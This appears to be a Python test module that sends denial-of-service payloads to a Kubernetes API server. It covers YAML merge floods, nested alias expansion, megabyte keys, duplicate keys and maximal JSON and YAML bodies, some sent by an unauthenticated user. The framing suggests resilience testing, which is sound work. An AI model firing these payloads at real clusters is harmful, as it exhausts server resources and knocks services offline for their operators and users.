"""Attacks in the body of a request: small or large, each says something that is dear to read."""

from typing import Any

from . import wire
from .scene import HERE, Scene

_REVIEWS = "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"
"""Everybody who is known may ask what they may do."""
_SLICES = "/apis/resource.k8s.io/v1/resourceslices"
_BODY_BYTES = 3 * 1024 * 1024 - 4096
"""Just below what the server takes."""


async def yaml_merges(scene: Scene) -> None:
    """30,000 merges into a mapping of 30,000 members, by somebody without any right."""
    count = scene.of(30_000)
    members = "".join(f"  k{i}: 1\n" for i in range(count))
    body = f"a: &a {{}}\nb:\n{members}" + "  <<: *a\n" * count
    listed = f"a: &a {{}}\nb:\n{members}  <<: [{', '.join(['*a'] * count)}]\n"
    shots = [wire.request("POST", _REVIEWS, one.encode(), "application/yaml") for one in (body, listed)]
    await scene.begin()
    await scene.bombard(scene.nobody, shots, connections=2)


async def yaml_anchors(scene: Scene) -> None:
    """Aliases of aliases, and tens of thousands of anchors that nobody uses."""
    layers = "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n"
    layers += "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]\n" for i in range(1, 9))
    unused = "".join(f"k{i}: &b{i} {{}}\n" for i in range(scene.of(60_000)))
    shots = [wire.request("POST", _REVIEWS, one.encode(), "application/yaml") for one in (layers, unused)]
    await scene.begin()
    await scene.bombard(scene.nobody, shots, connections=2)


async def long_keys(scene: Scene) -> None:
    """A key of a megabyte over 90,000 members: whoever writes down their paths writes gigabytes."""
    key, count = "k" * scene.of(1024 * 1024), scene.of(90_000)
    members = {f"m{i}": 1 for i in range(count)}
    as_yaml = f"{key[:1000]}:\n" + "".join(f"  m{i}: 1\n" for i in range(count))
    explicit = f"? {key}\n:\n" + "".join(f"  m{i}: 1\n" for i in range(count))
    shots = [
        wire.request("POST", _REVIEWS, wire.encoded({key: members})),
        wire.request("POST", _REVIEWS, as_yaml.encode(), "application/yaml"),
        wire.request("POST", _REVIEWS, explicit.encode(), "application/yaml"),
    ]
    await scene.begin()
    await scene.bombard(scene.nobody, shots, connections=2)


async def duplicate_keys(scene: Scene) -> None:
    """One key given 90,000 times, under a key of a megabyte; and as often as fits."""
    key, twice = "k" * scene.of(1024 * 1024), ",".join(['"a":1'] * scene.of(90_000))
    short = ",".join(['"a":1'] * scene.of(400_000))
    shots = [
        wire.request("POST", f"{HERE}/configmaps", f'{{"{key}":{{{twice}}}}}'.encode()),
        wire.request("POST", f"{HERE}/configmaps", f'{{"data":{{{short}}}}}'.encode()),
    ]
    await scene.begin()
    await scene.bombard(scene.mallory, shots, connections=2)


async def map_keys(scene: Scene) -> None:
    """A slice whose map has a key of a megabyte, over members that nobody knows. By a driver."""
    await scene.allow("resource.k8s.io", "resourceslices")
    junk = {f"m{i}": 1 for i in range(scene.of(90_000))}
    device = {"name": "d", "attributes": {"k" * scene.of(1024 * 1024): {"string": "x", **junk}}}
    shots = [wire.post(_SLICES, _slice([device])), wire.post(_SLICES, _slice([{"name": "d", **junk}]))]
    await scene.begin()
    await scene.bombard(scene.mallory, shots, connections=2)


def _slice(devices: list[dict[str, Any]]) -> dict[str, Any]:
    pool = {"name": "p", "generation": 1, "resourceSliceCount": 1}
    spec = {"driver": "d.example.com", "pool": pool, "allNodes": True, "devices": devices}
    return {"metadata": {"name": "s"}, "spec": spec}


async def large_bodies(scene: Scene) -> None:
    """Ten connections with as much JSON as the server takes: text, many members, lists, a pod."""
    size = scene.of(_BODY_BYTES)
    text = {"metadata": {"name": "t"}, "data": {"k": "x" * size}}
    members = {"metadata": {"name": "m"}, "data": {f"k{i}": "v" for i in range(size // 16)}}
    numbers = {"metadata": {"name": "n"}, "data": {"k": [[1]] * (size // 6)}}
    environment = [{"name": f"V{i}", "value": "v"} for i in range(size // 35)]
    containers = [{"name": "c", "image": "i", "env": environment}]
    pod = {"metadata": {"generateName": "p-"}, "spec": {"containers": containers}}
    shots = [
        wire.post(f"{HERE}/configmaps", text),
        wire.post(f"{HERE}/configmaps", members),
        wire.post(f"{HERE}/configmaps", numbers),
        wire.post(f"{HERE}/pods", pod),
    ]
    await scene.begin()
    await scene.bombard(scene.mallory, shots, connections=10, seconds=10)


async def large_yaml(scene: Scene) -> None:
    """Four connections with large YAML: it takes a hundred times what JSON takes."""
    about = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: y\ndata:\n"
    lines = "".join(f"  k{i}: v\n" for i in range(scene.of(95_000)))
    text = "".join(f"  k{i}: |\n" + "    a: b\n" * 20 for i in range(scene.of(12_000)))
    applied = f"{HERE}/configmaps/y?fieldManager=m&force=true"
    shots = [
        wire.request("POST", f"{HERE}/configmaps", (about + lines).encode(), "application/yaml"),
        wire.request("PATCH", applied, (about + text).encode(), "application/apply-patch+yaml"),
    ]
    await scene.begin()
    await scene.bombard(scene.mallory, shots, connections=4)
